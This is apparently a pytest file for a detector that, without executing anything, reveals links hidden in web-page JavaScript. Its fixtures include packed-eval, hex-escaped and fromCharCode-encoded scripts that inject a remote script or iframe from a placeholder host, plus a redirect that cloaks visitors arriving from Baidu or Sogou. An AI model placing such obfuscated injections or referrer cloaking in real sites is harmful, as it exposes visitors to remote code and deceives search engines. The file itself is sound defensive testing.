"""What scripts hide: nothing is run, and nothing is taken for hidden that is not."""

from __future__ import annotations

import time

import pytest
from tests.evidence.markup import leads, page

from xuncha.evidence.reader.packed import revealed
from xuncha.evidence.snapshot import LinkKind

#: As the common packer writes it: words by their number in base 36 or 62.
PACKED = (
    "eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?"
    "String.fromCharCode(c+29):c.toString(36))};while(c--){if(k[c]){p=p.replace(new RegExp("
    "'\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
    "('5.6(\"<0 1=\\'2://3.4.7/8.9\\'></0>\");',10,10,"
    "'script|src|http|www|strange|document|write|com|t|js'.split('|'),0,{}))"
)
#: A packed library that shows a picture of its own and goes nowhere.
LIBRARY = (
    "eval(function(p,a,c,k,e,d){return p}('2.0=\"3://1.4.5/6\";7(2)',8,8,"
    "'src|www|plugin|http|maker|com|docs|init'.split('|'),0,{}))"
)
SPELT = "".join(f"\\x{ord(c):02x}" for c in '<script src="//www.strange.com/t.js">')
CODES = ",".join(str(ord(c)) for c in "<iframe src=http://www.strange.com/t.html>")
REFERRER = (
    "var r=document.referrer;if(r.indexOf('baidu')>0||r.indexOf('sogou')>0)"
    "{location.href='http://www.strange.com/t.html';}"
)


@pytest.mark.parametrize(
    ("script", "url", "kind", "how"),
    [
        (PACKED, "http://www.strange.com/t.js", LinkKind.SCRIPT, "packed"),
        (f"document.write('{SPELT}');", "//www.strange.com/t.js", LinkKind.SCRIPT, "packed"),
        (
            f"document.write(String.fromCharCode({CODES}))",
            "http://www.strange.com/t.html",
            LinkKind.FRAME,
            "packed",
        ),
        (REFERRER, "http://www.strange.com/t.html", LinkKind.PAGE, "referrer"),
    ],
    ids=["packed", "spelt", "codes", "referrer"],
)
def test_where_a_script_leads_in_hiding(script, url, kind, how) -> None:
    assert revealed(script) == ((url, kind, how),)
    html = f"<p>示例</p><script>{script}</script>"
    (link,) = [one for one in page(html).links if one.hidden]
    assert (link.url.partition(":")[2], link.kind) == (url.removeprefix("http:"), kind)
    # A link check finds what a reading finds.
    assert leads(html)[link.url] is kind


@pytest.mark.parametrize(
    "script",
    [
        LIBRARY,
        "var a='\\x3c\\x2fscript>';",
        "String.fromCharCode(65,66)",
        "if(document.referrer==''){location.href='/index.html'}",
        "if(/iphone/.test(navigator.userAgent)){location.href='http://m.strange.com/'}",
        "document.write(unescape(\"%3Cscript src='http://s95.cnzz.com/z.js'%3E%3C/script%3E\"));",
        "var _r = document.referrer; new Image().src='http://count.strange.com/?r='+_r; // baidu",
    ],
)
def test_scripts_with_nothing_to_hide(script) -> None:
    assert revealed(script) == ()


@pytest.mark.parametrize(
    "script",
    [
        "p,a,c,k,e" + "}('" * 30_000,
        "p,a,c,k,e" + "}('a\\" * 20_000,
        "p,a,c,k,e}('" + "a" * 90_000,
        "p,a,c,k,e" + "}('x',9,9,'" * 8_000,
        "String.fromCharCode(" + "1" * 90_000,
        "String.fromCharCode(" + "1," * 40_000 + ")",
        "\\x41" * 24_000,
        "document.referrer baidu " + "location=" * 10_000,
        "document.referrer baidu " + "location='//" + "a" * 90_000,
        "eval(function(p,a,c,k,e,d){}('"
        + "0 " * 20_000
        + "',2,2,'"
        + "a" * 20_000
        + "'.split('|')))",
    ],
)
def test_a_script_made_to_take_long_does_not(script) -> None:
    before = time.perf_counter()
    revealed(script)
    assert time.perf_counter() - before < 2
